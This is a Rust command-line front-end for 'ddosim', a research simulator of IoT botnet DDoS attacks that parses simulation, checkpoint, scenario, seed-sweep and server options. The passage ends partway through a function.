//! `ddosim` — command-line front-end for single simulation runs.
//!
//! ```sh
//! ddosim --devs 100 --churn dynamic --duration 100 --seed 42
//! ddosim --devs 50 --recruitment worm:1.0:1 --json
//! ddosim --devs 25 --capture run-a.json --capture-filter "udp port 80"
//! ddosim trace diff run-a.json run-b.json
//! ```

use churn::ChurnMode;
use ddosim::{AttackSpec, Recruitment, SimulationBuilder, TelemetryConfig};
use protocols::AttackVector;
use std::process::ExitCode;
use std::time::Duration;
use telemetry::CaptureFilter;

const USAGE: &str = "\
ddosim — memory-error IoT botnet DDoS simulation (DSN'23 reproduction)

USAGE:
    ddosim [OPTIONS]
    ddosim trace diff <A.json> <B.json>
    ddosim trace suffix <TRACE.json> <CHECKPOINT.json>
    ddosim serve [--listen <ADDR>] [--idle-timeout <SECS>] [--workers <N>]
    ddosim submit <ADDR> (--scenario <F> | --config <F> | --shutdown) [OPTIONS]

OPTIONS:
    --devs <N>                number of Devs (default 25)
    --churn <MODE>            none | static | dynamic (default none)
    --vector <V>              udpplain | udp | syn | ack | greip (default udpplain)
    --duration <SECS>         attack duration (default 100)
    --attack-at <SECS>        when the C&C issues the attack (default 60)
    --sim-time <SECS>         simulation horizon (default 600)
    --payload <BYTES>         flood payload size (default: vector default)
    --access-rate <LO-HI>     Dev uplink range in kbps (default 100-500)
    --recruitment <R>         memory-error (default)
                              | scanner:<cred-fraction>
                              | worm:<cred-fraction>:<seeds>
    --topology <T>            star (default) | wifi | tiered:<regions>:<uplink-bps>
    --reboot-rate <R>         per-device reboots per minute (default 0)
    --strategy <S>            leak-rebase | static-chain | code-injection
    --faults <FILE>           inject faults from a plan file (schema
                              ddosim.faults.plan/1; see DESIGN.md)
    --seed <N>                RNG seed (default 42)
    --json                    emit the full RunResult as JSON
    --record <FILE>           write the flight-recorder trace (JSON) to FILE
    --capture <FILE>          write the packet capture (JSON) to FILE
    --capture-filter <EXPR>   keep only matching packets, e.g. \"udp port 80\"
                              (clauses: udp|tcp, port N, src IP, dst IP, host IP)
    --metrics-interval <SECS> sample time-series metrics every SECS (fractional ok)
    --metrics-out <FILE>      metrics output file (default ddosim-metrics.json)
    --checkpoint-at <SECS>    snapshot the full world state when the run
                              crosses SECS (schema ddosim.checkpoint/1)
    --checkpoint-out <FILE>   checkpoint output file (default ddosim-checkpoint.json)
    --resume <FILE>           continue a checkpointed run: the world is rebuilt
                              from the checkpoint's embedded configuration and
                              silently replayed to the snapshot time, then the
                              flight recorder splices onto the original prefix;
                              world-shaping flags (--devs, --seed, ...) are
                              rejected, output paths (--record, ...) are not
    --scenario <FILE>         run a declarative adversary-vs-defense scenario
                              (schema ddosim.scenario/1): one plan file composes
                              the world, attack schedule, fault plan, defense
                              deployments, and rival botnets; world-shaping
                              flags are rejected (the plan owns the world),
                              output flags (--record, --json, ...) and
                              --suffixes still compose
    --suffixes <FILE>         run a scenario tree (schema ddosim.suffix/1):
                              the world runs once to the fork point, is
                              deep-cloned in memory per suffix, and the forks
                              run their divergent futures in parallel; if the
                              plan embeds a config, world-shaping flags are
                              rejected; with --record each fork's full trace
                              goes to <record stem>.<suffix name>.json
    --fork-at <SECS>          override the plan's fork point (requires
                              --suffixes; fractional ok)
    --sweep-seeds <N>         run the configured world N times with seeds
                              seed..seed+N-1, fanned out across the worker
                              pool; rows print in seed order (summary
                              lines, or NDJSON rows with --json) and the
                              exit code is non-zero if any run fails
    --sweep-stream            with --sweep-seeds: print each NDJSON row the
                              moment its run finishes (completion order);
                              rows are deterministic, so sorting a streamed
                              transcript reproduces the --json batch
                              output byte for byte
    -h, --help                show this help

SUBCOMMANDS:
    trace diff <A> <B>        compare two telemetry JSON files entry by entry;
                              exit 0 if identical, print the first diverging
                              entry and exit 1 otherwise
    trace suffix <T> <CP>     print trace T restricted to events recorded at or
                              after checkpoint CP's snapshot (seq >= the
                              checkpoint's recorder count); diffing that against
                              a resumed run's trace proves resume = straight-through
    serve                     long-running scenario server: accepts
                              ddosim.serve/1 NDJSON requests over TCP and
                              streams per-job frames (accepted/started, live
                              flight-recorder events, time-series samples, the
                              final deterministic result) to each client;
                              prints \"listening on ADDR\" once bound
        --listen <ADDR>       bind address (default 127.0.0.1:0, an
                              ephemeral port)
        --idle-timeout <SECS> stop after SECS with no connections or jobs
        --workers <N>         worker threads (default: sized from the host)
    submit <ADDR>             submit one job (or a shutdown) to a running
                              server and consume its frame stream; exits
                              non-zero if the server rejects or fails the job
        --scenario <FILE>     submit a ddosim.scenario/1 plan file
        --config <FILE>       submit a resolved configuration document
        --shutdown            ask the server to drain and stop
        --id <NAME>           client-chosen job id (default: server-assigned)
        --record <FILE>       stream flight-recorder events and write the
                              reassembled trace to FILE — byte-identical to
                              the same seed+plan run offline with --record
        --metrics-interval <SECS>  stream time-series samples every SECS
        --follow              print every raw frame line as it arrives
        --json                print the final result as pretty JSON
";

/// A parsed command line.
enum Cli {
    /// Show the usage text.
    Help,
    /// Run a simulation.
    Run(Box<RunOpts>),
    /// Compare two telemetry JSON files.
    TraceDiff { a: String, b: String },
    /// Restrict a trace to the events at or after a checkpoint.
    TraceSuffix { trace: String, checkpoint: String },
    /// Run the long-running scenario server.
    Serve(ddosim::serve::ServeOptions),
    /// Submit one job (or a shutdown) to a running server.
    Submit(Box<SubmitCli>),
}

/// Everything `ddosim submit` needs from the command line. Plan/config
/// files are read at run time, so parsing alone accepts any path.
struct SubmitCli {
    addr: String,
    scenario_path: Option<String>,
    config_path: Option<String>,
    shutdown: bool,
    id: Option<String>,
    record_out: Option<String>,
    metrics_interval_secs: Option<f64>,
    follow: bool,
    json: bool,
}

/// Everything a simulation run needs from the command line.
struct RunOpts {
    builder: SimulationBuilder,
    json: bool,
    telemetry: TelemetryConfig,
    faults_path: Option<String>,
    record_out: Option<String>,
    capture_out: Option<String>,
    metrics_out: Option<String>,
    checkpoint_at: Option<Duration>,
    checkpoint_out: Option<String>,
    resume_path: Option<String>,
    scenario_path: Option<String>,
    suffixes_path: Option<String>,
    fork_at: Option<Duration>,
    sweep_seeds: Option<u32>,
    sweep_stream: bool,
    /// First world-shaping flag seen, kept so a suffix plan with an
    /// embedded config can reject it at run time (the file is only read
    /// then).
    world_flag: Option<String>,
}

/// Flags that shape the simulated world (as opposed to naming output
/// files). A resumed run rebuilds the world from the checkpoint's embedded
/// configuration, so combining any of these with `--resume` is an error —
/// they would be silently discarded otherwise.
const WORLD_FLAGS: &[&str] = &[
    "--devs", "--churn", "--vector", "--duration", "--attack-at", "--sim-time",
    "--payload", "--access-rate", "--recruitment", "--strategy", "--topology",
    "--reboot-rate", "--faults", "--seed", "--capture-filter", "--metrics-interval",
];

/// Parses `ddosim serve ...` (everything after the subcommand word).
fn parse_serve(args: &[String]) -> Result<Cli, String> {
    let mut opts = ddosim::serve::ServeOptions::default();
    let mut it = args.iter();
    while let Some(arg) = it.next() {
        let mut value = |name: &str| -> Result<String, String> {
            it.next()
                .cloned()
                .ok_or_else(|| format!("serve: {name} requires a value"))
        };
        match arg.as_str() {
            "--listen" => opts.listen = value("--listen")?,
            "--idle-timeout" => {
                let secs: f64 = value("--idle-timeout")?
                    .parse()
                    .map_err(|e| format!("serve: --idle-timeout: {e}"))?;
                if !secs.is_finite() || secs <= 0.0 {
                    return Err("serve: --idle-timeout: must be positive".to_owned());
                }
                opts.idle_timeout = Some(Duration::from_secs_f64(secs));
            }
            "--workers" => {
                let n: usize = value("--workers")?
                    .parse()
                    .map_err(|e| format!("serve: --workers: {e}"))?;
                if n == 0 {
                    return Err("serve: --workers: must be at least 1".to_owned());
                }
                opts.workers = Some(n);
            }
            other => return Err(format!("serve: unknown option: {other}")),
        }
    }
    Ok(Cli::Serve(opts))
}

/// Parses `ddosim submit <ADDR> ...` (everything after the subcommand
/// word).
fn parse_submit(args: &[String]) -> Result<Cli, String> {
    let addr = match args.first() {
        Some(a) if !a.starts_with('-') => a.clone(),
        _ => {
            return Err(
                "usage: ddosim submit <ADDR> (--scenario <F> | --config <F> | --shutdown)"
                    .to_owned(),
            )
        }
    };
    let mut cli = SubmitCli {
        addr,
        scenario_path: None,
        config_path: None,
        shutdown: false,
        id: None,
        record_out: None,
        metrics_interval_secs: None,
        follow: false,
        json: false,
    };
    let mut it = args[1..].iter();
    while let Some(arg) = it.next() {
        let mut value = |name: &str| -> Result<String, String> {
            it.next()
                .cloned()
                .ok_or_else(|| format!("submit: {name} requires a value"))
        };
        match arg.as_str() {
            "--scenario" => cli.scenario_path = Some(value("--scenario")?),
            "--config" => cli.config_path = Some(value("--config")?),
            "--shutdown" => cli.shutdown = true,
            "--id" => cli.id = Some(value("--id")?),
            "--record" => cli.record_out = Some(value("--record")?),
            "--metrics-interval" => {
                let secs: f64 = value("--metrics-interval")?
                    .parse()
                    .map_err(|e| format!("submit: --metrics-interval: {e}"))?;
                if !secs.is_finite() || secs <= 0.0 {
                    return Err("submit: --metrics-interval: must be positive".to_owned());
                }
                cli.metrics_interval_secs = Some(secs);
            }
            "--follow" => cli.follow = true,
            "--json" => cli.json = true,
            other => return Err(format!("submit: unknown option: {other}")),
        }
    }
    let payloads =
        usize::from(cli.scenario_path.is_some()) + usize::from(cli.config_path.is_some());
    if cli.shutdown {
        if payloads > 0 {
            return Err("submit: --shutdown does not take a scenario or config".to_owned());
        }
        for (flag, set) in [
            ("--id", cli.id.is_some()),
            ("--record", cli.record_out.is_some()),
            ("--metrics-interval", cli.metrics_interval_secs.is_some()),
            ("--json", cli.json),
        ] {
            if set {
                return Err(format!(
                    "submit: {flag} cannot be combined with --shutdown"
                ));
            }
        }
    } else if payloads != 1 {
        return Err(
            "submit: provide exactly one of --scenario, --config, or --shutdown".to_owned(),
        );
    }
    Ok(Cli::Submit(Box::new(cli)))
}

fn parse_args(args: &[String]) -> Result<Cli, String> {
    if args.first().map(String::as_str) == Some("serve") {
        return parse_serve(&args[1..]);
    }
    if args.first().map(String::as_str) == Some("submit") {
        return parse_submit(&args[1..]);
    }
    if args.first().map(String::as_str) == Some("trace") {
        return match args[1..] {
            [ref sub, ref a, ref b] if sub == "diff" => {
                Ok(Cli::TraceDiff { a: a.clone(), b: b.clone() })
            }
            [ref sub, ref t, ref cp] if sub == "suffix" => Ok(Cli::TraceSuffix {
                trace: t.clone(),
                checkpoint: cp.clone(),
            }),
            _ => Err(
                "usage: ddosim trace diff <A.json> <B.json> | trace suffix \
                 <TRACE.json> <CHECKPOINT.json>"
                    .to_owned(),
            ),
        };
    }
    let mut builder = SimulationBuilder::new().devs(25);
    let mut duration = Duration::from_secs(100);
    let mut vector = AttackVector::UdpPlain;
    let mut payload: Option<u32> = None;
    let mut json = false;
    let mut telemetry = TelemetryConfig::default();
    let mut faults_path: Option<String> = None;
    let mut record_out = None;
    let mut capture_out = None;
    let mut metrics_out: Option<String> = None;
    let mut checkpoint_at: Option<Duration> = None;
    let mut checkpoint_out: Option<String> = None;
    let mut resume_path: Option<String> = None;
    let mut scenario_path: Option<String> = None;
    let mut suffixes_path: Option<String> = None;
    let mut fork_at: Option<Duration> = None;
    let mut sweep_seeds: Option<u32> = None;
    let mut sweep_stream = false;
    let mut world_flag: Option<String> = None;
    let mut it = args.iter();
    while let Some(arg) = it.next() {
        if world_flag.is_none() && WORLD_FLAGS.contains(&arg.as_str()) {
            world_flag = Some(arg.clone());
        }
        let mut value = |name: &str| -> Result<String, String> {
            it.next()
                .cloned()
                .ok_or_else(|| format!("{name} requires a value"))
        };
        match arg.as_str() {
            "--devs" => builder = builder.devs(value("--devs")?.parse().map_err(|e| format!("--devs: {e}"))?),
            "--churn" => {
                builder = builder.churn(match value("--churn")?.as_str() {
                    "none" => ChurnMode::None,
                    "static" => ChurnMode::Static,
                    "dynamic" => ChurnMode::Dynamic,
                    other => return Err(format!("unknown churn mode: {other}")),
                })
            }
            "--vector" => {
                let v = value("--vector")?;
                vector = AttackVector::parse(&v).ok_or(format!("unknown vector: {v}"))?;
            }
            "--duration" => {
                duration = Duration::from_secs(
                    value("--duration")?.parse().map_err(|e| format!("--duration: {e}"))?,
                )
            }
            "--attack-at" => {
                builder = builder.attack_at(Duration::from_secs(
                    value("--attack-at")?.parse().map_err(|e| format!("--attack-at: {e}"))?,
                ))
            }
            "--sim-time" => {
                builder = builder.sim_time(Duration::from_secs(
                    value("--sim-time")?.parse().map_err(|e| format!("--sim-time: {e}"))?,
                ))
            }
            "--payload" => {
                payload = Some(value("--payload")?.parse().map_err(|e| format!("--payload: {e}"))?)
            }
            "--access-rate" => {
                let v = value("--access-rate")?;
                let (lo, hi) = v
                    .split_once('-')
                    .ok_or_else(|| "expected LO-HI, e.g. 100-500".to_owned())?;
                let lo: u64 = lo.parse().map_err(|e| format!("--access-rate: {e}"))?;
                let hi: u64 = hi.parse().map_err(|e| format!("--access-rate: {e}"))?;
                builder = builder.access_rate_kbps(lo..=hi);
            }
            "--recruitment" => {
                let v = value("--recruitment")?;
                let parts: Vec<&str> = v.split(':').collect();
                let r = match parts.as_slice() {
                    ["memory-error"] => Recruitment::MemoryError,
                    ["scanner", f] => Recruitment::CredentialScanner {
                        default_credential_fraction: f
                            .parse()
                            .map_err(|e| format!("--recruitment scanner: {e}"))?,
                    },
                    ["worm", f, s] => Recruitment::SelfPropagating {
                        default_credential_fraction: f
                            .parse()
                            .map_err(|e| format!("--recruitment worm: {e}"))?,
                        seeds: s.parse().map_err(|e| format!("--recruitment worm: {e}"))?,
                    },
                    _ => return Err(format!("unknown recruitment spec: {v}")),
                };
                builder = builder.recruitment(r);
            }
            "--strategy" => {
                builder = builder.strategy(match value("--strategy")?.as_str() {
                    "leak-rebase" => ddosim::ExploitStrategy::LeakRebase,
                    "static-chain" => ddosim::ExploitStrategy::StaticChain,
                    "code-injection" => ddosim::ExploitStrategy::CodeInjection,
                    other => return Err(format!("unknown strategy: {other}")),
                })
            }
            "--topology" => {
                let v = value("--topology")?;
                let parts: Vec<&str> = v.split(':').collect();
                let t = match parts.as_slice() {
                    ["star"] => ddosim::TopologyKind::Star,
                    ["wifi"] => ddosim::TopologyKind::Wifi,
                    ["tiered", r, bps] => ddosim::TopologyKind::Tiered {
                        regions: r.parse().map_err(|e| format!("--topology: {e}"))?,
                        region_uplink_bps: bps.parse().map_err(|e| format!("--topology: {e}"))?,
                    },
                    _ => return Err(format!("unknown topology spec: {v}")),
                };
                builder = builder.topology(t);
            }
            "--reboot-rate" => {
                builder = builder.reboot_rate_per_min(
                    value("--reboot-rate")?.parse().map_err(|e| format!("--reboot-rate: {e}"))?,
                )
            }
            "--faults" => faults_path = Some(value("--faults")?),
            "--seed" => builder = builder.seed(value("--seed")?.parse().map_err(|e| format!("--seed: {e}"))?),
            "--json" => json = true,
            "--record" => {
                telemetry.record = true;
                record_out = Some(value("--record")?);
            }
            "--capture" => {
                telemetry.capture = true;
                capture_out = Some(value("--capture")?);
            }
            "--capture-filter" => {
                telemetry.capture_filter = CaptureFilter::parse(&value("--capture-filter")?)
                    .map_err(|e| format!("--capture-filter: {e}"))?;
            }
            "--metrics-interval" => {
                let secs: f64 = value("--metrics-interval")?
                    .parse()
                    .map_err(|e| format!("--metrics-interval: {e}"))?;
                if !secs.is_finite() || secs <= 0.0 {
                    return Err("--metrics-interval: must be positive".to_owned());
                }
                telemetry.metrics_interval = Some(Duration::from_secs_f64(secs));
            }
            "--metrics-out" => metrics_out = Some(value("--metrics-out")?),
            "--checkpoint-at" => {
                let secs: f64 = value("--checkpoint-at")?
                    .parse()
                    .map_err(|e| format!("--checkpoint-at: {e}"))?;
                if !secs.is_finite() || secs < 0.0 {
                    return Err("--checkpoint-at: must be non-negative".to_owned());
                }
                checkpoint_at = Some(Duration::from_secs_f64(secs));
            }
            "--checkpoint-out" => checkpoint_out = Some(value("--checkpoint-out")?),
            "--resume" => resume_path = Some(value("--resume")?),
            "--scenario" => scenario_path = Some(value("--scenario")?),
            "--suffixes" => suffixes_path = Some(value("--suffixes")?),
            "--fork-at" => {
                let secs: f64 = value("--fork-at")?
                    .parse()
                    .map_err(|e| format!("--fork-at: {e}"))?;
                if !secs.is_finite() || secs < 0.0 {
                    return Err("--fork-at: must be non-negative".to_owned());
                }
                fork_at = Some(Duration::from_secs_f64(secs));
            }
            "--sweep-seeds" => {
                let n: u32 = value("--sweep-seeds")?
                    .parse()
                    .map_err(|e| format!("--sweep-seeds: {e}"))?;
                if n == 0 {
                    return Err("--sweep-seeds: must be at least 1".to_owned());
                }
                sweep_seeds = Some(n);
            }
            "--sweep-stream" => sweep_stream = true,
            "-h" | "--help" => return Ok(Cli::Help),
            other => return Err(format!("unknown option: {other}")),
        }
    }
    if resume_path.is_some() {
        if let Some(flag) = world_flag {
            return Err(format!(
                "{flag} cannot be combined with --resume: a resumed run \
                 rebuilds the world exactly from the checkpoint's embedded \
                 configuration, telemetry included (output paths such as \
                 --record are still allowed)"
            ));
        }
    }
    if scenario_path.is_some() {
        if let Some(flag) = &world_flag {
            return Err(format!(
                "{flag} cannot be combined with --scenario: the scenario plan \
                 composes the whole world (world, attack, faults, defenses, \
                 rivals); output paths such as --record are still allowed"
            ));
        }
        for (flag, set) in [
            ("--resume", resume_path.is_some()),
            ("--checkpoint-at", checkpoint_at.is_some()),
        ] {
            if set {
                return Err(format!("{flag} cannot be combined with --scenario"));
            }
        }
    }
    if fork_at.is_some() && suffixes_path.is_none() {
        return Err("--fork-at requires --suffixes".to_owned());
    }
    if suffixes_path.is_some() {
        for (flag, set) in [
            ("--resume", resume_path.is_some()),
            ("--checkpoint-at", checkpoint_at.is_some()),
            ("--capture", capture_out.is_some()),
            ("--metrics-interval", telemetry.metrics_interval.is_some()),
            ("--metrics-out", metrics_out.is_some()),
        ] {
            if set {
                return Err(format!(
                    "{flag} cannot be combined with --suffixes: a scenario \
                     tree runs one prefix and many forked futures, which \
                     only supports per-fork flight-recorder output (--record)"
                ));
            }
        }
    }
    if sweep_stream && sweep_seeds.is_none() {
        return Err("--sweep-stream requires --sweep-seeds".to_owned());
    }
    if sweep_seeds.is_some() {
        for (flag, set) in [
            ("--resume", resume_path.is_some()),
            ("--checkpoint-at", checkpoint_at.is_some()),
            ("--suffixes", suffixes_path.is_some()),
            ("--scenario", scenario_path.is_some()),
            ("--record", record_out.is_some()),
            ("--capture", capture_out.is_some()),
            ("--metrics-interval", telemetry.metrics_interval.is_some()),
        ] {
            if set {
                return Err(format!(
                    "{flag} cannot be combined with --sweep-seeds: a seed \
                     sweep runs the configured world many times across the \
                     worker pool and only reports per-row results"
                ));
            }
        }
    }
    if checkpoint_out.is_some() && checkpoint_at.is_none() {
        return Err("--checkpoint-out requires --checkpoint-at".to_owned());
    }
    if checkpoint_at.is_some() && checkpoint_out.is_none() {
        checkpoint_out = Some("ddosim-checkpoint.json".to_owned());
    }
    if telemetry.metrics_interval.is_some() && metrics_out.is_none() {
        metrics_out = Some("ddosim-metrics.json".to_owned());
    }
    builder = builder.attack(AttackSpec {
        vector,
        duration,
        payload_bytes: payload,
        port: 80,
    });
    Ok(Cli::Run(Box::new(RunOpts {
        builder,
        json,
        telemetry,
        faults_path,
        record_out,
        capture_out,
        metrics_out,
        checkpoint_at,
        checkpoint_out,
        resume_path,
        scenario_path,
        suffixes_path,
        fork_at,
        sweep_seeds,
        sweep_stream,
        world_flag,
    })))
}

/// Writes one telemetry document, reporting where it went.
fn write_doc(path: &str, doc: Option<djson::Json>, what: &str) -> Result<(), String> {
    let doc = doc.ok_or_else(|| format!("{what} was not collected"))?;
    std::fs::write(path, doc.to_string_compact() + "\n")
        .map_err(|e| format!("writing {path}: {e}"))?;
    eprintln!("{what} written to {path}");
    Ok(())
}

/// One human-readable result line (shared by single runs and scenario-tree
/// rows).
fn summary_line(result: &ddosim::RunResult) -> String {
    format!(
        "devs={} recruited={} ({:.0}%)  bots@command={}  avg={:.1} kbps  \
         flood_rx={} pkts  pre/attack mem={:.2}/{:.2} GB  attack wall={}",
        result.devs,
        result.infected,
        result.infection_rate * 100.0,
        result.bots_at_command,
        result.avg_received_data_rate_kbps,
        result.flood_packets_received,
        result.pre_attack_mem_gb,
        result.attack_mem_gb,
        result.attack_time_m_ss(),
    )
}

/// Inserts a suffix name before the record path's extension:
/// `out.json` + `baseline` → `out.baseline.json`.
fn suffix_record_path(base: &str, name: &str) -> String {
    match base.rsplit_once('.') {
        Some((stem, ext)) if !ext.contains('/') => format!("{stem}.{name}.{ext}"),
        _ => format!("{base}.{name}"),
    }
}

/// Reads and strictly parses a `ddosim.scenario/1` plan file.
fn load_scenario(path: &str) -> Result<ddosim::scenario::ScenarioPlan, String> {
    let text = std::fs::read_to_string(path).map_err(|e| format!("reading {path}: {e}"))?;
    Ok(ddosim::scenario::ScenarioPlan::parse(&text)?)
}

/// Runs a scenario tree: one shared prefix to the fork point, then every
/// suffix on an in-memory fork, fanned out across the worker pool.
fn run_scenario_tree(opts: RunOpts) -> Result<(), String> {
    let RunOpts {
        mut builder, json, telemetry, faults_path, record_out, scenario_path, suffixes_path,
        fork_at, world_flag, ..
    } = opts;
    let path = suffixes_path.expect("checked by the caller");
    let text = std::fs::read_to_string(&path).map_err(|e| format!("reading {path}: {e}"))?;
    let mut plan = ddosim::SuffixPlan::parse(&text)?;
    if let Some(at) = fork_at {
        plan.fork_at = at;
    }
    if plan.suffixes.is_empty() {
        return Err(format!("suffix plan {path} has no suffixes"));
    }
    let mut world = match (plan.config.take(), &scenario_path) {
        (Some(_), Some(sp)) => {
            return Err(format!(
                "--scenario {sp} cannot be combined with a suffix plan that \
                 embeds a configuration: exactly one of them must own the world"
            ));
        }
        (Some(mut config), None) => {
            if let Some(flag) = world_flag {
                return Err(format!(
                    "{flag} cannot be combined with --suffixes when the plan \
                     embeds a configuration: the world is built exactly from \
                     the plan (output paths such as --record are still allowed)"
                ));
            }
            config.telemetry.record |= telemetry.record;
            ddosim::Ddosim::new(config)?
        }
        (None, Some(sp)) => load_scenario(sp)?.build_with_telemetry(telemetry)?,
        (None, None) => {
            if let Some(p) = faults_path {
                let t =
                    std::fs::read_to_string(&p).map_err(|e| format!("reading {p}: {e}"))?;
                builder = builder.faults(ddosim::FaultPlan::parse_str(&t)?);
            }
            builder.telemetry(telemetry).build()?
        }
    };
    world.run_prefix(plan.fork_at)?;
    let outcomes = ddosim::run_suffixes_traced(&world, &plan.suffixes);
    let mut failures = 0usize;
    let mut rows = Vec::with_capacity(outcomes.len());
    for (spec, outcome) in plan.suffixes.iter().zip(&outcomes) {
        match outcome {
            Ok(o) => {
                if let Some(base) = &record_out {
                    let out = suffix_record_path(base, &spec.name);
                    write_doc(&out, o.trace.clone(), "flight recorder")?;
                }
                if json {
                    rows.push(djson::Json::obj([
                        ("name", djson::Json::Str(spec.name.clone())),
                        ("result", djson::ToJson::to_json(&o.result)),
                    ]));
                } else {
                    println!("{}: {}", spec.name, summary_line(&o.result));
                }
            }
            Err(msg) => {
                failures += 1;
                if json {
                    rows.push(djson::Json::obj([
                        ("name", djson::Json::Str(spec.name.clone())),
                        ("error", djson::Json::Str(msg.clone())),
                    ]));
                } else {
                    println!("{}: error: {msg}", spec.name);
                }
            }
        }
    }
    if json {
        println!("{}", djson::Json::Arr(rows).to_string_pretty());
    }
    if failures > 0 {
        return Err(format!("{failures} of {} suffixes failed", outcomes.len()));
    }
    Ok(())
}

/// Runs the configured world across `--sweep-seeds` consecutive seeds on
/// the experiment worker pool. Every JSON row is built from
/// [`ddosim::RunResult::to_deterministic_json`] (host-measured timings
/// excluded), so a `--sweep-stream` transcript (completion order) sorted
/// by line equals the `--json` batch transcript (index order) byte for
/// byte — the CI determinism stage diffs exactly that.
fn run_sweep(opts: RunOpts) -> Result<(), String> {
    let RunOpts { mut builder, json, telemetry, faults_path, sweep_seeds, sweep_stream, .. } =
        opts;
    let n = sweep_seeds.expect("checked by the caller");
    if let Some(path) = faults_path {
        let text = std::fs::read_to_string(&path).map_err(|e| format!("reading {path}: {e}"))?;
        builder = builder.faults(ddosim::FaultPlan::parse_str(&text)?);
    }
    let base = builder.telemetry(telemetry).config().clone();
    let configs: Vec<_> = (0..u64::from(n))
        .map(|i| {
            let mut config = base.clone();
            config.seed = base.seed.wrapping_add(i);
            config
        })
        .collect();
    let seeds: Vec<u64> = configs.iter().map(|c| c.seed).collect();
    let row_line = |i: usize, outcome: &Result<ddosim::RunResult, String>| {
        let payload = match outcome {
            Ok(r) => ("result", r.to_deterministic_json()),
            Err(msg) => ("error", djson::Json::Str(msg.clone())),
        };
        djson::Json::obj([
            ("index", djson::Json::U64(i as u64)),
            ("seed", djson::Json::U64(seeds[i])),
            payload,
        ])
        .to_string_compact()
    };
    let outcomes = ddosim::try_run_configs_streamed(configs, |i, outcome| {
        if sweep_stream {
            println!("{}", row_line(i, outcome));
        }
    });
    if !sweep_stream {
        for (i, outcome) in outcomes.iter().enumerate() {
            if json {
                println!("{}", row_line(i, outcome));
            } else {
                match outcome {
                    Ok(r) => println!("seed={}: {}", seeds[i], summary_line(r)),
                    Err(msg) => println!("seed={}: error: {msg}", seeds[i]),
                }
            }
        }
    }
    let failures = outcomes.iter().filter(|o| o.is_err()).count();
    if failures > 0 {
        return Err(format!("{failures} of {} sweep runs failed", outcomes.len()));
    }
    Ok(())
}

fn run(opts: RunOpts) -> Result<(), String> {
    if opts.sweep_seeds.is_some() {
        return run_sweep(opts);
    }
    if opts.suffixes_path.is_some() {
        return run_scenario_tree(opts);
    }
    let RunOpts {
        mut builder, json, telemetry, faults_path, record_out, capture_out, metrics_out,
        checkpoint_at, checkpoint_out, resume_path, scenario_path, ..
    } = opts;
    let instance = if let Some(path) = &scenario_path {
        // The plan owns the world (world flags were rejected at parse
        // time); CLI telemetry is layered on top.
        load_scenario(path)?.build_with_telemetry(telemetry)?
    } else {
        if let Some(path) = faults_path {
            let text =
                std::fs::read_to_string(&path).map_err(|e| format!("reading {path}: {e}"))?;
            builder = builder.faults(ddosim::FaultPlan::parse_str(&text)?);
        }
        builder = builder.telemetry(telemetry);
        if let Some(path) = &resume_path {
            let text = std::fs::read_to_string(path).map_err(|e| format!("reading {path}: {e}"))?;
            builder = builder.resume_from(ddosim::Checkpoint::parse(&text)?);
        }
        if let Some(at) = checkpoint_at {
            builder = builder.checkpoint_at(at);
        }
        builder.build()?
    };
    // Clones share the collectors, so the handle stays readable after
    // `try_run_to_completion` consumes the instance.
    let tele = instance.telemetry().clone();
    let (result, saved) = instance.try_run_to_completion()?;
    if let Some(cp) = saved {
        let path = checkpoint_out.as_deref().unwrap_or("ddosim-checkpoint.json");
        std::fs::write(path, cp.to_string_pretty() + "\n")
            .map_err(|e| format!("writing {path}: {e}"))?;
        eprintln!("checkpoint written to {path}");
    }
    if let Some(path) = record_out {
        write_doc(&path, tele.recorder_json(), "flight recorder")?;
    }
    if let Some(path) = capture_out {
        write_doc(&path, tele.capture_json(), "packet capture")?;
    }
    if let Some(path) = metrics_out {
        write_doc(&path, tele.metrics_json(), "metrics")?;
    }
    if json {
        println!("{}", djson::ToJson::to_json(&result).to_string_pretty());
    } else {
        println!("{}", summary_line(&result));
    }
    Ok(())
}

/// Builds the suffix document: `trace` with its event list restricted to
/// events recorded at or after the checkpoint's snapshot. Diffing the
/// result against a resumed run's full trace proves (or refutes) that
/// resume reproduced the straight-through run byte for byte.
fn suffix_doc(trace_text: &str, checkpoint_text: &str) -> Result<djson::Json, String> {
    let cp = ddosim::Checkpoint::parse(checkpoint_text)?;
    let mut doc =
        djson::Json::parse(trace_text).map_err(|e| format!("trace is not valid JSON: {e}"))?;
    let djson::Json::Obj(members) = &mut doc else {
        return Err("trace is not a JSON object".to_owned());
    };
    let events = members
        .iter_mut()
        .find(|(k, _)| k == "events")
        .ok_or_else(|| "trace has no 'events' array".to_owned())?;
    let djson::Json::Arr(list) = &mut events.1 else {
        return Err("trace 'events' is not an array".to_owned());
    };
    list.retain(|e| {
        e.get("seq")
            .and_then(djson::Json::as_u64)
            .is_some_and(|seq| seq >= cp.events_recorded)
    });
    Ok(doc)
}

/// Prints a trace restricted to the events at or after a checkpoint
/// (exit code 0, or 2 if either file is unreadable).
fn trace_suffix(trace_path: &str, checkpoint_path: &str) -> ExitCode {
    let read = |path: &str| {
        std::fs::read_to_string(path).map_err(|e| format!("reading {path}: {e}"))
    };
    let result = read(trace_path)
        .and_then(|t| read(checkpoint_path).map(|c| (t, c)))
        .and_then(|(t, c)| suffix_doc(&t, &c));
    match result {
        Ok(doc) => {
            println!("{}", doc.to_string_compact());
            ExitCode::SUCCESS
        }
        Err(msg) => {
            eprintln!("error: {msg}");
            ExitCode::from(2)
        }
    }
}

/// Compares two telemetry JSON files; the process exit code reports the
/// verdict (0 identical, 1 diverged, 2 unreadable).
fn trace_diff(a_path: &str, b_path: &str) -> ExitCode {
    let read = |path: &str| {
        std::fs::read_to_string(path).map_err(|e| format!("reading {path}: {e}"))
    };
    let (a, b) = match (read(a_path), read(b_path)) {
        (Ok(a), Ok(b)) => (a, b),
        (Err(e), _) | (_, Err(e)) => {
            eprintln!("error: {e}");
            return ExitCode::from(2);
        }
    };
    match telemetry::diff_strs(&a, &b) {
        Ok(None) => {
            println!("traces identical");
            ExitCode::SUCCESS
        }
        Ok(Some(d)) => {
            println!("{}", d.render());
            ExitCode::from(1)
        }
        Err(msg) => {
            eprintln!("error: {msg}");
            ExitCode::from(2)
        }
    }
}

/// Binds and serves, announcing the real (possibly ephemeral) port on
/// stdout so scripts can poll for readiness.
fn run_serve(opts: ddosim::serve::ServeOptions) -> Result<(), String> {
    let server = ddosim::serve::Server::bind(opts)?;
    println!("listening on {}", server.local_addr());
    use std::io::Write as _;
    let _ = std::io::stdout().flush();
    server.run()
}

/// Submits one job (or a shutdown) and reports its outcome.
fn run_submit(cli: SubmitCli) -> Result<(), String> {
    let read = |path: &String| {
